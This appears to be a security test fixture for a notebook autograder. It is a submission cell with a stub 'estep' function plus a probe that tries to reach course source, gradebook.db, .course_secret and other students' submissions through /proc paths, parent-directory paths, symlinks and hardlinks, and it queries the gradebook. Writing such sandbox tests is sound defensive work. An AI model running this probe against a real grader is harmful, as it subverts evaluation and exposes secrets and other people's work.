"""Reads and lists source, gradebook, secret, release and others' submissions by many paths and links."""

TRACE = "PWNED_file"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import glob
import os
import sqlite3

mark = "PWN" + "ED_file"
names = ["source/01_e_step/01_e_step.ipynb", "gradebook.db", ".course_secret", "nbgrader_config.py"]
names += ["submitted", "autograded"]
roots = ["@COURSE@", "@CHECKOUT@", "/proc/self/root@COURSE@", "/proc/thread-self/root@COURSE@"]
roots += ["/proc/self/cwd/../../..", "../../.."]
for root in [*roots, *glob.glob("/proc/[0-9]*/cwd")]:
    for name in names if "cwd" in root else ["", *names]:
        path = f"{root}/{name}"
        for way in (os.listdir, lambda path: open(path, "rb").read(1), lambda path: os.listxattr(path)):
            try:
                if way(path):
                    print(mark, path)
            except OSError:
                pass
        for make in (os.symlink, os.link):
            try:
                make(path, f"way_{make.__name__}")
                with open(f"way_{make.__name__}", "rb") as file:
                    print(mark, path, file.read(1))
            except OSError:
                pass
            try:
                os.unlink(f"way_{make.__name__}")
            except OSError:
                pass
try:
    with sqlite3.connect("@COURSE@/gradebook.db", timeout=1) as book:
        print(mark, book.execute("select count(*) from student").fetchall())
except sqlite3.Error:
    pass
""",
}
